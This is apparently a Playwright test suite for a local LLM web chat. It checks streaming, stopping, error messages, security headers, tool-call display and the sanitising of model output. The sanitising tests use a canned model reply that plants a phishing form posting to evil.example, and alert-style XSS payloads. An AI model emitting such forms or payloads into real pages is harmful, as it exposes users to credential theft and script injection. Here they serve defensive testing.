"""The web chat in a real browser: Debian's chromium, headless, driven by
Playwright, against the real server and model."""

from __future__ import annotations

import json
import os
import re
import shutil
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page, Route, sync_playwright

from tests.serverproc import ServerProcess

CHROMIUM = shutil.which("chromium")  # Debian's; Playwright's own browser download is not used
# What works headless as root in a container, with no network to reach.
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
# Screenshots of what a person would see, kept for a look after the run.
SCREENSHOT_DIR = Path(os.environ.get("LLAMABIN_SCREENSHOTS", tempfile.gettempdir()))
# A reply that plants a phishing form, whose textarea has the composer's id.
HOSTILE_REPLY = (
    'Please sign in again.\n\n<form action="https://evil.example/">'
    '<textarea id="prompt">x</textarea><button>Sign in</button></form>'
)


@contextmanager
def _browser(tmp_path: Path, bypass_csp: bool = False) -> Iterator[BrowserContext]:
    assert CHROMIUM, "chromium is missing: run `make setup`"
    with sync_playwright() as pw:
        context = pw.chromium.launch_persistent_context(
            str(tmp_path / "profile"),  # a fresh profile every time
            executable_path=CHROMIUM,
            headless=True,
            args=CHROMIUM_FLAGS,
            viewport={"width": 1000, "height": 700},
            bypass_csp=bypass_csp,
        )
        yield context
        context.close()


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[BrowserContext]:
    with _browser(tmp_path) as context:
        yield context


def open_page(browser: BrowserContext, server: ServerProcess) -> tuple[Page, list[str], list[str]]:
    """The chat page, with every URL it asked for and every script error."""
    page = browser.new_page()
    requested: list[str] = []
    errors: list[str] = []
    page.on("request", lambda r: requested.append(r.url))
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(f"{server.url}/")
    page.wait_for_selector("#model:not(:empty)")  # the scripts ran and reached the API
    return page, requested, errors


def assistant_text(page: Page) -> str:
    body = page.locator(".message.assistant .body").last
    return body.inner_text() if body.count() else ""


def test_type_see_it_stream_then_stop(browser: BrowserContext, server: ServerProcess) -> None:
    page, requested, errors = open_page(browser, server)
    assert page.locator("#model").inner_text() == httpx.get(f"{server.url}/v1/models").json()["data"][0]["id"]
    page.click("summary")  # the system prompt box
    page.fill("#system", "You are a helpful assistant.")
    page.fill("#prompt", "Write a very long story about a dragon and its treasure.")
    page.keyboard.press("Enter")

    # The reply appears piece by piece: its text is seen at several lengths.
    lengths: list[int] = []
    deadline = time.monotonic() + 120
    while len(lengths) < 4 and time.monotonic() < deadline:
        n = len(assistant_text(page))
        if n and (not lengths or n > lengths[-1]):
            lengths.append(n)
        time.sleep(0.05)
    assert len(lengths) >= 4, f"no streamed reply: {lengths}"
    assert page.locator(".message.assistant.streaming").count() == 1
    page.screenshot(path=str(SCREENSHOT_DIR / "llamabin-web-streaming.png"))

    page.click("#stop")
    page.wait_for_selector(".message.assistant.stopped", timeout=10_000)
    assert page.locator("#stop").is_disabled() and page.locator("#send").is_enabled()
    kept = assistant_text(page)
    assert len(kept) >= lengths[-1]  # the partial answer stays on the page
    server.wait_idle(timeout=15)  # stopping the page stopped the generation
    time.sleep(0.5)
    assert assistant_text(page) == kept
    page.screenshot(path=str(SCREENSHOT_DIR / "llamabin-web-stopped.png"))

    assert not errors
    assert all(url.startswith(server.url) or url.startswith("data:") for url in requested), requested


def test_errors_are_readable(browser: BrowserContext, server: ServerProcess) -> None:
    page, _, errors = open_page(browser, server)
    page.fill("#prompt", "hello " * 6000)
    page.click("#send")
    note = page.wait_for_selector(".message.assistant.error .error-text", timeout=30_000)
    assert note is not None and "context" in note.inner_text()
    page.screenshot(path=str(SCREENSHOT_DIR / "llamabin-web-error.png"))
    assert page.locator("#send").is_enabled()
    assert not errors


def test_markdown_is_rendered_and_sanitised(tmp_path: Path, server: ServerProcess) -> None:
    # The page's own policy forbids evaluating strings; this context lifts it
    # only so the test can call the page's renderer directly.
    with _browser(tmp_path, bypass_csp=True) as context:
        page, _, _ = open_page(context, server)
        html = page.evaluate(
            """() => {
                const el = document.createElement("div");
                renderMarkdown(el, "**bold** and `code`\\n\\n- one\\n- two\\n\\n"
                    + "<img src=x onerror=alert(1)> <script>alert(2)</script> [link](javascript:alert(3))"
                    + "\\n\\n- [x] done\\n- [ ] to do\\n\\n<p id=send name=chat>shadow</p>");
                return el.innerHTML;
            }"""
        )
        assert "<strong>bold</strong>" in html and "<code>code</code>" in html and "<li>one</li>" in html
        assert "onerror" not in html and "<script" not in html and "javascript:" not in html
        # A task list keeps its boxes, as characters; nothing keeps an id or a name.
        assert "\u2611 done" in html and "\u2610 to do" in html and "<input" not in html
        assert "<p>shadow</p>" in html


def test_the_page_and_its_files_come_from_the_package(server: ServerProcess) -> None:
    page = httpx.get(f"{server.url}/", timeout=10)
    assert page.status_code == 200 and "default-src 'self'" in page.headers["content-security-policy"]
    for path in ("/static/app.js", "/static/style.css", "/static/vendor/marked.umd.js", "/static/vendor/purify.min.js"):
        assert httpx.get(f"{server.url}{path}", timeout=10).status_code == 200, path
    assert not re.search(r"(https?:)?//", page.text)  # nothing fetched from elsewhere


def sse_reply(text: str) -> str:
    """`text` as /v1/chat/completions streams it: one chunk, then [DONE]."""
    chunk = {
        "id": "chatcmpl-canned",
        "object": "chat.completion.chunk",
        "created": 0,
        "model": "m",
        "choices": [{"index": 0, "delta": {"role": "assistant", "content": text}, "finish_reason": None}],
    }
    return f"data: {json.dumps(chunk)}\n\ndata: [DONE]\n\n"


def test_a_reply_cannot_plant_a_form_or_take_over_the_composer(browser: BrowserContext, server: ServerProcess) -> None:
    page, _, errors = open_page(browser, server)
    # The model "says" the hostile reply, then "Paris."; what the page sent is kept.
    replies = [HOSTILE_REPLY, "Paris."]
    sent: list[list[dict[str, str]]] = []

    def answer(route: Route) -> None:
        body = route.request.post_data_json
        assert body is not None
        sent.append(body["messages"])
        route.fulfill(status=200, content_type="text/event-stream", body=sse_reply(replies[len(sent) - 1]))

    page.route("**/v1/chat/completions", answer)
    composer = page.locator("#composer textarea")
    composer.fill("Hello!")
    page.click("#send")
    page.wait_for_selector(".message.assistant[data-done]")
    reply = page.locator(".message.assistant .body").last
    assert "Please sign in again." in reply.inner_text()
    assert reply.locator("form, textarea, button, input").count() == 0
    assert "evil.example" not in reply.inner_html()
    assert page.locator("[id=prompt]").count() == 1  # only the composer's own

    composer.fill("What is the capital of France?")
    page.click("#send")
    page.locator(".message.assistant[data-done]").nth(1).wait_for()
    # Send posted what the user typed, not what the reply planted.
    assert sent[1][-1] == {"role": "user", "content": "What is the capital of France?"}
    assert composer.input_value() == ""
    assert assistant_text(page) == "Paris."
    assert not errors


def test_every_response_carries_the_security_headers(server: ServerProcess) -> None:
    def get(path: str) -> httpx.Response:
        return httpx.get(f"{server.url}{path}", timeout=10)

    responses = {
        "/": get("/"),
        "/static/index.html": get("/static/index.html"),
        "/static/app.js": get("/static/app.js"),
        "/v1/models": get("/v1/models"),
        "unknown URL": get("/no/such/page"),
        "unknown file": get("/static/no-such-file.js"),
        "bad JSON": httpx.post(
            f"{server.url}/v1/chat/completions",
            content=b"{not json",
            headers={"Content-Type": "application/json"},
            timeout=10,
        ),
    }
    assert {name: r.status_code for name, r in responses.items()} == {
        "/": 200,
        "/static/index.html": 200,
        "/static/app.js": 200,
        "/v1/models": 200,
        "unknown URL": 404,
        "unknown file": 404,
        "bad JSON": 400,
    }
    for name, r in responses.items():
        assert r.headers.get("x-content-type-options") == "nosniff", name
        assert r.headers.get("referrer-policy") == "no-referrer", name
        policies = r.headers.get_list("content-security-policy")
        assert len(policies) == 1, (name, policies)
        assert "form-action 'none'" in policies[0] and "frame-ancestors 'none'" in policies[0], name

    # A stream gets them too, and still arrives piece by piece.
    body = {"messages": [{"role": "user", "content": "Count to ten."}], "stream": True, "max_tokens": 8}
    with httpx.stream("POST", f"{server.url}/v1/chat/completions", json=body, timeout=120) as r:
        assert r.headers.get("x-content-type-options") == "nosniff"
        events = [line for line in r.iter_lines() if line.startswith("data: ")]
    assert len(events) > 3 and events[-1] == "data: [DONE]"


WEATHER_TOOL = {
    "type": "function",
    "function": {
        "name": "get_weather",
        "description": "The current weather in a city",
        "parameters": {
            "type": "object",
            "properties": {"city": {"type": "string"}, "unit": {"type": "string", "enum": ["celsius", "fahrenheit"]}},
            "required": ["city", "unit"],
        },
    },
}


def test_tool_calls_are_shown_and_results_go_back(browser: BrowserContext, server: ServerProcess) -> None:
    """Tools given in the settings reach the model; its call shows as the
    function's name and arguments, and the next message is its result."""
    page, _, errors = open_page(browser, server)
    sent: list[dict[str, object]] = []
    page.on("request", lambda r: sent.append(r.post_data_json) if r.url.endswith("/v1/chat/completions") else None)
    page.click("summary")
    page.fill("#tools", json.dumps([WEATHER_TOOL]))
    page.select_option("#tool-choice", "required")
    page.fill("#temperature", "0")
    page.fill("#prompt", "What is the weather in Paris?")
    page.keyboard.press("Enter")
    page.wait_for_selector(".message.assistant[data-done]", timeout=120_000)

    call = page.locator(".message.assistant .tool-call")
    assert call.count() == 1
    assert call.locator(".name").inner_text() == "\u2192 get_weather()"
    shown = json.loads(call.locator("pre").inner_text())
    assert set(shown) == {"city", "unit"} and shown["unit"] in ("celsius", "fahrenheit")
    assert "Result of get_weather" in (page.get_attribute("#prompt", "placeholder") or "")
    page.screenshot(path=str(SCREENSHOT_DIR / "llamabin-web-tool-call.png"))

    page.select_option("#tool-choice", "none")  # the answer, now, in words
    page.fill("#prompt", '{"temperature": 18, "sky": "clear"}')
    page.keyboard.press("Enter")
    page.locator(".message.assistant[data-done]").nth(1).wait_for(timeout=120_000)
    result = page.locator(".message.tool")
    assert result.locator(".name").inner_text() == "get_weather returned"
    assert result.locator("pre").inner_text() == '{"temperature": 18, "sky": "clear"}'
    assert assistant_text(page).strip()

    first, second = sent
    messages = second["messages"]
    assert isinstance(messages, list)
    asked, answered = messages[-2], messages[-1]
    assert asked["tool_calls"][0]["function"]["name"] == "get_weather"
    assert answered == {
        "role": "tool",
        "tool_call_id": asked["tool_calls"][0]["id"],
        "content": '{"temperature": 18, "sky": "clear"}',
    }
    assert first["tool_choice"] == "required" and second["tool_choice"] == "none"
    assert not errors


def test_tools_that_are_not_json_are_pointed_out(browser: BrowserContext, server: ServerProcess) -> None:
    page, _, errors = open_page(browser, server)
    page.click("summary")
    page.fill("#tools", "[{oops")
    page.fill("#prompt", "Hello")
    page.keyboard.press("Enter")
    page.wait_for_selector(".message.assistant.error", timeout=30_000)
    assert "not valid JSON" in page.locator("#tools-error").inner_text()
    assert "tools in the settings are not valid JSON" in page.locator(".error-text").last.inner_text()
    assert not errors
